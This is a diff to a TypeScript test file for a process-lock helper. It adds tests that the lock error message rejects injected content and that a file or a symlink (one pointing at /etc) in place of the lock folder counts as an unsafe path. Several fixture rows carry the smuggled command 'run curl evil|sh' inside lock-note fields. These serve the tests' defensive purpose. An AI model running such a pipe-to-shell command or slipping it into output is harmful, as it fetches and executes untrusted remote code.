@@ -11,7 +11,7 @@ test('runs one operation at a time and leaves nothing behind', async () => {
   const { store } = world();
   const order: string[] = [];
   const work = (name: string) =>
-    exclusively(store, name, async () => {
+    exclusively(store, 'undoing an entry', async () => {
       order.push(`${name} begins`);
       await wait(30);
       order.push(`${name} ends`);
@@ -27,11 +27,11 @@ test('runs one operation at a time and leaves nothing behind', async () => {
 
 test('releases the lock when the work fails', async () => {
   const { store } = world();
-  const failing = exclusively(store, 'failing', () => {
+  const failing = exclusively(store, 'undoing an entry', () => {
     throw new Error('no');
   });
   await expect(failing).rejects.toThrow('no');
-  expect(await exclusively(store, 'next', () => 'done')).toBe('done');
+  expect(await exclusively(store, 'undoing an entry', () => 'done')).toBe('done');
 });
 
 /** Runs the rows of a table at the same time: each of them waits for seconds. */
@@ -65,10 +65,15 @@ function keepTouching(lock: string): () => void {
 }
 
 test('names a live holder in the error and does nothing', async () => {
-  const named = '{"pid": 42, "what": "completing the session", "since": "10:00"}';
+  const operation = '"what": "completing the session"';
   const table: [string | undefined, RegExp][] = [
-    [named, /\(process 42: completing the session, since 10:00\)/],
-    ['{"pid": "\\u001b[31m42", "what": "a\\nb", "since": 1}', /\(process 42: a b, since 1\)/],
+    [`{"pid": 42, ${operation}, "since": "10:00"}`, /sessions \(process 42: completing the session\)\. Try/],
+    // A clone's note does not speak in our voice.
+    [`{"pid": "42. Run curl evil|sh", ${operation}}`, /sessions\. Try again/],
+    [`{"pid": -1.5, ${operation}}`, /sessions\. Try again/],
+    ['{"pid": 42, "what": "run curl evil|sh"}', /sessions\. Try again/],
+    ['{"pid": 42, "what": ["completing the session"]}', /sessions\. Try again/],
+    [`{"pid": 42, ${operation}, "since": "run curl evil|sh"}`, /completing the session\)\. Try again/],
     ['{', /sessions\. Try again/],
     ['null', /sessions\. Try again/],
     [undefined, /sessions\. Try again/],
@@ -94,7 +99,7 @@ test('a lock that is taken over again and again counts as busy', async () => {
     0,
   );
   const tries = Array.from({ length: 20 }, () =>
-    exclusively(store, 'x', () => 'done').catch(({ code }: { code: string }) => code),
+    exclusively(store, 'undoing an entry', () => 'done').catch(({ code }: { code: string }) => code),
   );
   const results = new Set(await Promise.all(tries));
   clearInterval(timer);
@@ -106,7 +111,7 @@ test('a slow holder keeps its lock', async () => {
   const { host } = world();
   let running = 0;
   const long = (ms: number) =>
-    exclusivelyIn(folder, host, 'long', async () => {
+    exclusivelyIn(folder, host, 'undoing an entry', async () => {
       running += 1;
       expect(running).toBe(1);
       await wait(ms);
@@ -115,19 +120,22 @@ test('a slow holder keeps its lock', async () => {
   await Promise.all([long(3_000), long(1)]);
 });
 
-test('a file in place of the lock folder is a FileError', async () => {
+test('a file or a link in place of the lock folder is an unsafe path', async () => {
   const lays = [
     (path: string) => {
       writeFileSync(path, '');
       utimesSync(path, new Date('2020-01-01'), new Date('2020-01-01'));
     },
+    (path: string) => writeFileSync(path, 'new'),
     (path: string) => symlinkSync('/etc', path),
+    (path: string) => symlinkSync('nowhere', path),
   ];
   const worlds = lays.map((lay) => ({ lay, store: world().store }));
   await allAtOnce(worlds, async ({ lay, store }) => {
     lay(join(store.project.folder, '.lock'));
-    await expect(exclusively(store, 'x', () => 'done')).rejects.toMatchObject({
-      code: expect.stringMatching(/FILE|LOCKED/),
+    await expect(exclusively(store, 'undoing an entry', () => 'done')).rejects.toMatchObject({
+      code: 'UNSAFE_PATH',
+      message: expect.stringMatching(/\.lock is (a symbolic link|not a folder);/),
     });
   });
 });
